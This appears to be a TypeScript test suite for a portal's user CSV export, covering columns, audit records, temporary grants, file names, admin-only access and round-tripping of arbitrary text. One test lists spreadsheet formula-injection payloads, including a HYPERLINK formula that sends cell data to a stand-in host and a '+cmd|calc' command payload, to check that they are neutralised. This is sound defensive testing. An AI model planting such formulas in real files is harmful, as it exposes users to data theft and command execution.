import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { AuditEvent } from '../../src/domain/entities/audit-event.js';
import { PortalUser } from '../../src/domain/entities/portal-user.js';
import { Site } from '../../src/domain/entities/site.js';
import type { UserDto } from '../../src/domain/dto/user-dto.js';
import { EXPORT_HEADER } from '../../src/services/imports/columns.js';
import { exportRow, exportUsersCsv } from '../../src/services/imports/export.js';
import { parseCsv } from '../../src/services/imports/parse.js';
import { prepareImport } from '../../src/services/imports/prepare.js';
import { confirmImport } from '../../src/services/imports/confirm.js';
import { endDueGrants } from '../../src/services/grants/end.js';
import { giveGrantOperation } from '../../src/services/grants/operations.js';
import { runOperation } from '../../src/services/run.js';
import { setPermissions } from '../../src/services/users/profile.js';
import { utcMinuteText } from '../../src/lib/utc-minute.js';
import { addActor, HOUR, newAccount, startTestSwitchboard, type TestSwitchboard } from '../support/switchboard.js';
import { testRunner } from './support/csv.js';
import { guardCell, onePage, unguardCell, writeCsv } from '../../src/services/imports/csv-file.js';

let sb: TestSwitchboard;
beforeAll(async () => {
  sb = await startTestSwitchboard();
});
afterAll(async () => sb?.close());

const origin = { platform: 'console' as const };

describe('users export', () => {
  it('writes the shared columns and State, is audited, and imports back as updates that change nothing', async () => {
    const acc = await newAccount(sb);
    await addActor(
      sb,
      acc,
      { userId: 'rita', email: 'rita@example.com', firstName: 'Rita, "R"', lastName: 'Reed' },
      'regular',
    );
    const { user: sam } = await addActor(
      sb,
      acc,
      { userId: 'sam', email: 'sam@example.com', phone: null, state: 'unconfirmed' },
      'support',
    );
    await addActor(sb, acc, { userId: 'old', email: 'old@example.com', state: 'deleted' }, 'regular');
    const em = sb.orm.em.fork();
    const scoped = await em.findOneOrFail(PortalUser, { id: sam.id }, { populate: ['sites'] });
    scoped.accessAllSites = false;
    scoped.fortinetSso = 'read-only';
    scoped.sites.set([em.getReference(Site, acc.sites[1]!.id)]);
    await em.flush();

    const exported = await exportUsersCsv(sb.deps, acc.actor, 'all');
    expect(exported.count).toBe(3);
    expect(exported.fileName).toMatch(/^users-all-\d{4}-\d{2}-\d{2}-\d{4}-UTC\.csv$/);
    const parsed = await parseCsv(exported.csv);
    expect(parsed.header).toEqual(EXPORT_HEADER);
    const sams = parsed.records.find((r) => r.cells[0] === 'sam')!.cells;
    expect(sams).toEqual([
      'sam',
      'sam',
      'Test',
      'User',
      'sam@example.com',
      '',
      'support',
      'no',
      'no',
      '3992460',
      'hide',
      'hide',
      'manage',
      'manage',
      'read-only',
      'off',
      'off',
      'no',
      'unconfirmed',
      '',
    ]);
    expect(exported.csv).toContain('"Rita, ""R"""');
    const audit = await sb.orm.em
      .fork()
      .findOneOrFail(AuditEvent, { accountId: acc.account.id, action: 'users.export' });
    expect(audit).toMatchObject({ actorId: acc.admin.id, outcome: 'success', after: { state: 'all', users: 3 } });

    const before = await sb.orm.em
      .fork()
      .find(PortalUser, { account: acc.account.id }, { orderBy: { userIdKey: 'asc' } });
    const preview = await prepareImport(sb.deps, acc.actor, {
      fileName: exported.fileName,
      content: exported.csv,
      origin,
    });
    expect(preview).toMatchObject({
      total: 3,
      toAdd: 0,
      toUpdate: 3,
      unchanged: 3,
      invalid: 0,
      sendsEmails: 0,
      errors: [],
    });
    const confirmed = await confirmImport(sb.deps, acc.actor, { batch: preview.id, rows: 3 });
    expect(confirmed.kind).toBe('done');
    const [ended] = await testRunner(sb.deps).runOnce();
    expect(ended).toMatchObject({ state: 'done', unchanged: 3, updated: 0, added: 0, failed: 0 });
    const after = await sb.orm.em
      .fork()
      .find(PortalUser, { account: acc.account.id }, { orderBy: { userIdKey: 'asc' } });
    expect(after.map((u) => [u.userId, u.version, u.updatedAt.getTime()])).toEqual(
      before.map((u) => [u.userId, u.version, u.updatedAt.getTime()]),
    );
    expect(await sb.orm.em.fork().count(AuditEvent, { accountId: acc.account.id, action: 'user.edit' })).toBe(0);
  });

  it('says which levels are temporary and until when; import ignores that column', async () => {
    const acc = await newAccount(sb);
    for (const userId of ['rita', 'sam', 'tom'])
      await addActor(sb, acc, { userId, email: `${userId}@example.com` }, 'read-only');
    const give = (user: string, permission: string, hours: number) =>
      runOperation(sb.deps, acc.actor, giveGrantOperation, { user, permission, durationMs: hours * HOUR });
    await give('rita', 'tickets:manage', 2);
    await give('rita', 'orders:manage', 1);
    await give('sam', 'orders:manage', 1);
    // Sam's orders set on purpose while the grant runs: its end leaves them as set, so they are not temporary.
    await setPermissions(sb.deps, acc.actor, { user: 'sam', role: 'regular' });
    const until = (hours: number) => utcMinuteText(new Date(sb.clock.now().getTime() + hours * HOUR));

    const exported = await exportUsersCsv(sb.deps, acc.actor, 'all');
    const parsed = await parseCsv(exported.csv);
    expect(parsed.header.at(-1)).toBe('Temporary Until');
    const temporary = Object.fromEntries(parsed.records.map((r) => [r.cells[0], r.cells.at(-1)]));
    expect(temporary).toMatchObject({
      rita: `orders:manage until ${until(1)}; tickets:manage until ${until(2)}`,
      sam: '',
      tom: '',
    });
    // The granted levels are written as held now, and the file imports back as it is.
    const rita = parsed.records.find((r) => r.cells[0] === 'rita')!.cells;
    expect([rita[EXPORT_HEADER.indexOf('Orders')], rita[EXPORT_HEADER.indexOf('Tickets')]]).toEqual([
      'manage',
      'manage',
    ]);
    const preview = await prepareImport(sb.deps, acc.actor, { fileName: 'x.csv', content: exported.csv, origin });
    expect(preview).toMatchObject({ invalid: 0, errors: [], unchanged: 4 });

    // Once the grants have ended, no level is temporary.
    sb.clock.advance(2 * HOUR + 1_000);
    try {
      await endDueGrants(sb.deps);
      const later = await parseCsv((await exportUsersCsv(sb.deps, acc.actor, 'all')).csv);
      expect(later.records.map((r) => r.cells.at(-1))).toEqual(['', '', '', '']);
    } finally {
      sb.clock.advance(-(2 * HOUR + 1_000));
    }
  });

  it('names each export by its minute (UTC), so that a second export the same day keeps the first', async () => {
    const acc = await newAccount(sb);
    const at = sb.clock.now().toISOString();
    const first = await exportUsersCsv(sb.deps, acc.actor, 'enabled');
    expect(first.fileName).toBe(`users-enabled-${at.slice(0, 10)}-${at.slice(11, 13)}${at.slice(14, 16)}-UTC.csv`);
    sb.clock.advance(60_000);
    const second = await exportUsersCsv(sb.deps, acc.actor, 'enabled');
    expect(second.fileName).toMatch(/^users-enabled-\d{4}-\d{2}-\d{2}-\d{4}-UTC\.csv$/);
    expect(second.fileName).not.toBe(first.fileName);
  });

  it('is for Administrators only, and the refusal is audited', async () => {
    const acc = await newAccount(sb);
    const { actor } = await addActor(sb, acc, { userId: 'reg', email: 'reg@example.com' }, 'regular');
    await expect(exportUsersCsv(sb.deps, actor, 'enabled')).rejects.toMatchObject({ code: 'AUTH.FORBIDDEN' });
    const refused = await sb.orm.em
      .fork()
      .count(AuditEvent, { accountId: acc.account.id, action: 'users.export', outcome: 'refused' });
    expect(refused).toBe(1);
  });

  it('a cell a spreadsheet would run as a formula is written with a leading quote, taken off on import', async () => {
    const cells = ['=HYPERLINK("http://x.example/?"&A1,"Click")', '@SUM(1)', '-2+3', '+cmd|calc'];
    expect(cells.map(guardCell)).toEqual(cells.map((c) => `'${c}`));
    expect(cells.map(guardCell).map(unguardCell)).toEqual(cells);
    // Plain text and E.164 phone numbers are written as they are.
    expect(['Ada', '+17035550100', "O'Brien", ''].map(guardCell)).toEqual(['Ada', '+17035550100', "O'Brien", '']);
    const csv = await writeCsv(['User Label'], onePage([['=1+1'], ['ok']]));
    expect(csv).toBe("User Label\r\n'=1+1\r\nok\r\n");
  });

  it('guarding then unguarding gives any cell back, even one that already starts with quotes', () => {
    const unit = fc.constantFrom("'", '=', '+', '-', '@', '\t', '\r', '\n', '1', 'a', ' ');
    fc.assert(
      fc.property(fc.string({ unit, maxLength: 8 }), (cell) => {
        const written = guardCell(cell);
        expect(unguardCell(written)).toBe(cell);
        // What a spreadsheet would run is never written bare (an E.164 number aside).
        if (/^[=+\-@\t\r]/.test(written)) expect(written).toMatch(/^\+\d+$/);
      }),
      { numRuns: 500 },
    );
    expect(["'+", "''=1", "'\n"].map(guardCell)).toEqual(["''+", "'''=1", "''\n"]);
  });

  it('any text in a field survives export and parse: commas, quotes, line breaks, unicode', async () => {
    const text = fc.string({ unit: 'grapheme', maxLength: 40 });
    await fc.assert(
      fc.asyncProperty(fc.array(fc.tuple(text, text, text), { minLength: 1, maxLength: 5 }), async (people) => {
        const users = people.map(([first, last, label], i) => ({
          userId: `u${i}`,
          label,
          firstName: first,
          lastName: last,
          email: `u${i}@example.com`,
          phone: null,
          state: 'enabled',
          sites: [],
          role: 'admin',
          permissions: {
            administrator: true,
            accessAllSites: true,
            invoices: 'pay',
            orders: 'manage',
            services: 'manage',
            tickets: 'manage',
            fortinetSso: 'off',
            merakiSso: 'off',
            veloSso: 'off',
          },
        })) as unknown as UserDto[];
        const csv = await writeCsv(
          EXPORT_HEADER,
          (async function* () {
            yield users.map((user) => exportRow(user));
          })(),
        );
        const parsed = await parseCsv(csv);
        const cell = (text: string | undefined) => unguardCell(text ?? '');
        expect(parsed.records.map((r) => [cell(r.cells[2]), cell(r.cells[3]), cell(r.cells[1])])).toEqual(
          people.map(([first, last, label]) => [
            first.replace(/\r\n/g, '\n'),
            last.replace(/\r\n/g, '\n'),
            label.replace(/\r\n/g, '\n'),
          ]),
        );
      }),
      { numRuns: 200 },
    );
  });
});
